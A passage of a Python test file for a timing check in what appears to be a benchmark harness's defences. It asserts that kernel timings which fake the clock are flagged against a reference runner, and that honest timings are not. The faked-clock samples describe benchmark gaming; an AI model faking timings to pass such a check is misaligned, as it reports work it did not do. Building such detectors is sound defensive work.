    part of a request (syncs, events, the answer) was left out, and the honest call was flagged. The
    reference's runner, timed on the same requests, shows that cost; a tenth of a 3 ms call
    claimed is still a faked clock beside it."""
    from kfray.eval.defences import clock_check

    wire = (47e-6, 55e-6)
    kernel = [(704e-6, 100e-6, 0.0)] * 20
    reference = [(720e-6, 105e-6, 0.0)] * 20
    assert "outside clock" in clock_check(kernel, wire, 225e-6)             # as it was: a false flag
    assert clock_check(kernel, wire, 225e-6, beside=reference) is None
    assert clock_check(reference, wire, 225e-6, beside=kernel) is None
    faked = [(3.6e-3, 0.3e-3, 0.0)] * 20
    honest_3ms = [(3.62e-3, 3.0e-3, 0.0)] * 20
    assert "outside clock" in clock_check(faked, wire, 225e-6, beside=honest_3ms)
    assert "outside clock" in clock_check(faked, wire, 225e-6, beside=reference)
